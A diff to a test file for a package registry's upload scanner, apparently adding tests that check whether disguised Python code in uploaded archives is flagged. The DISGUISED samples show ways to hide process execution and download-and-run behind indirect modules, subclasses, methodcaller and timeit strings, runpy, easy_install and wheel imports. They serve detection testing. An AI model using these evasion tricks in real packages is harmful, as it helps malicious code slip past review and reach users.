@@ -22,7 +22,7 @@ import {
   type Studio,
   upload,
 } from '../support/registry-publishing.ts';
-import { type Finding, type NodeVersion, type PackNode, STATUS } from '../support/registry-wire.ts';
+import { type NodeVersion, type PackNode, type Report, STATUS } from '../support/registry-wire.ts';
 import { onEachEngine } from '../support/servers.ts';
 
 const MIB = 1024 * 1024;
@@ -52,6 +52,63 @@ const SUSPICIOUS: readonly (readonly [what: string, rules: RegExp, line: number,
     4,
     'import subprocess\nimport sys\n\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])\n',
   ],
+];
+
+/** What looks like something else, at a known line; the file is `lib/it.py`. */
+const DISGUISED: readonly (readonly [what: string, rules: RegExp, line: number, source: string])[] = [
+  ['a process through a module of another', /process-start/, 2, 'import shutil\nshutil.os.system("id")\n'],
+  ['a process through a private name', /process-start/, 2, 'from tempfile import _os\n_os.system("id")\n'],
+  ['a process through the system module', /process-start/, 2, 'import posix\nposix.system("id")\n'],
+  [
+    'a process through an heir',
+    /process-start/,
+    3,
+    'import subprocess\nclass P(subprocess.Popen): pass\nP(["id"])\n',
+  ],
+  [
+    'a process through a getter',
+    /hidden-call/,
+    2,
+    'import operator, os\noperator.methodcaller("system", "id")(os)\n',
+  ],
+  ['a walk over all classes', /dynamic-execution/, 1, 'x = ().__class__.__base__.__subclasses__()\n'],
+  [
+    'code in a text',
+    /process-start/,
+    2,
+    'import timeit\ntimeit.timeit(stmt="import os; os.system(\'id\')")\n',
+  ],
+  [
+    'a downloaded module',
+    /download-and-run/,
+    2,
+    'from urllib.request import urlretrieve\nurlretrieve("https://example.org/x", "payload.py")\n',
+  ],
+  [
+    'an import of what was not uploaded',
+    /download-and-run/,
+    3,
+    'import requests\nrequests.get("https://example.org/x")\nfrom . import payload\n',
+  ],
+  [
+    'a cloned repository',
+    /download-and-run/,
+    2,
+    'import git\ngit.Repo.clone_from("https://example.org/x", "x")\n',
+  ],
+  [
+    'an installation without a command',
+    /package-install/,
+    3,
+    'import sys, runpy\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip")\n',
+  ],
+  [
+    'an installation by the old installer',
+    /package-install/,
+    2,
+    'from setuptools.command.easy_install import main\nmain(["x"])\n',
+  ],
+  ['an import from an archive', /archive-import/, 2, 'import sys\nsys.path.insert(0, "lib/vendor.whl")\n'],
 ];
 
 const HARMLESS = `"""Uses exec(), eval() and subprocess.run() only in this text."""
@@ -87,8 +144,7 @@ onEachEngine('checks of archives', (server) => {
   const anyone = () => client(server.current.url);
   const verdictOn = async (archive: Uint8Array) =>
     await publishArchive(server.current, studio, newName('pack'), archive);
-  const findingsOf = (version: NodeVersion) =>
-    (JSON.parse(version.status_reason ?? '{}') as { findings: Finding[] }).findings;
+  const findingsOf = (version: NodeVersion) => (JSON.parse(version.status_reason ?? '{}') as Report).findings;
 
   /** The version is gone for good, with a sentence that says why. */
   const assertUnusable = async (archive: Uint8Array, why: RegExp) => {
@@ -131,6 +187,72 @@ onEachEngine('checks of archives', (server) => {
     });
   }
 
+  for (const [what, rules, line, source] of DISGUISED) {
+    test(`[REG-65] ${what} is flagged`, async () => {
+      const version = await verdictOn(
+        packOf({ '__init__.py': sourceWithNodes('Scale'), 'lib/it.py': source }),
+      );
+      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+      const findings = findingsOf(version);
+      assert.ok(
+        findings.some((one) => one.file === 'lib/it.py' && one.line === line && rules.test(one.rule)),
+        JSON.stringify(findings),
+      );
+    });
+  }
+
+  test('[REG-160] many findings of one kind do not hide another', async () => {
+    const one = 'import subprocess\ndef f(): subprocess.run(["ls"])\n';
+    const version = await verdictOn(packOf({ 'a.py': 'exec(x)\n'.repeat(500), 'z.py': one }));
+    const { total, findings } = JSON.parse(version.status_reason ?? '{}') as Report;
+    assert.deepEqual([total, findings.length], [501, 100]);
+    assert.deepEqual(findings.at(-1)?.file, 'z.py');
+  });
+
+  test('[REG-161] what honest packs do too is noted and not flagged', async () => {
+    const version = await verdictOn(
+      zipOf([
+        {
+          name: '__init__.py',
+          content: 'import torch\n\n\ndef f(p):\n    return torch.load(p, map_location="cpu")\n',
+        },
+        { name: 'port.py', content: 'import socket\ns = socket.socket()\ns.bind(("", 0))\n' },
+        { name: 'tests/test_x.py', content: 'import subprocess\nsubprocess.run(["pytest"])\n' },
+        { name: 'data/presets.zip', content: zipOf([{ name: 'a.txt', content: 'a' }]) },
+      ]),
+    );
+    assert.equal(version.status, STATUS.active, JSON.stringify(version));
+    const [first, ...notes] = (version.status_reason ?? '').split('\n');
+    assert.equal(first, 'Passed automated checks');
+    assert.match(notes.join('\n'), /"__init__\.py", line 5: .*\(unsafe-load\)/);
+    assert.match(notes.join('\n'), /"port\.py", line 2: .*\(raw-socket\)/);
+    assert.match(notes.join('\n'), /"tests\/test_x\.py", line 2: .*\(process-start\)/);
+    assert.match(notes.join('\n'), /"data\/presets\.zip" is an archive itself/);
+  });
+
+  test('[REG-162] a source that would take too long to parse is passed over and flagged', async () => {
+    const version = await verdictOn(packOf({ '__init__.py': `x=1${'+1'.repeat(500_000)}\n` }));
+    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+    assert.deepEqual(
+      findingsOf(version).map(({ rule, file }) => [rule, file]),
+      [['unread-source', '__init__.py']],
+    );
+    assert.equal(version.node_extract_status, 'failed');
+  });
+
+  test('[REG-65] the report tells how many findings there are when it does not list them all', async () => {
+    const version = await verdictOn(packOf({ 'a.py': 'exec(x)\n'.repeat(150), 'b.py': 'def (:\n' }));
+    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+    const { total, findings, notes } = JSON.parse(version.status_reason ?? '{}') as Report;
+    assert.equal(total, 150);
+    assert.equal(findings.length, 100);
+    assert.match(notes.join(), /b\.py/);
+    const short = await verdictOn(packOf({ '__init__.py': SUSPICIOUS_SOURCE }));
+    const whole = JSON.parse(short.status_reason ?? '{}') as Report;
+    assert.equal(whole.total, whole.findings.length);
+    assert.deepEqual(whole.notes, []);
+  });
+
   test('[REG-65] a flagged version is not the latest', async () => {
     const version = await verdictOn(packOf({ '__init__.py': SUSPICIOUS_SOURCE }));
     assert.equal(version.status, STATUS.flagged);
@@ -167,6 +289,7 @@ onEachEngine('checks of archives', (server) => {
 
   test('[REG-67] an archive without entries cannot be used', async () => {
     await assertUnusable(zipOf([]), /empty/i);
+    await assertUnusable(zipOf([{ name: 'nodes/' }, { name: 'nodes/more/' }]), /empty/i);
   });
 
   test('[REG-67] an archive whose content does not match its checksum cannot be used', async () => {
@@ -235,6 +358,7 @@ onEachEngine('checks of archives', (server) => {
       ]),
       /"a"/,
     );
+    await assertUnusable(zipOf([SOUND, { ...SOUND, name: '__INIT__.py' }]), /letter case/);
   });
 
   test('[REG-73] a bad archive leaves earlier versions installable and later ones checked', async () => {
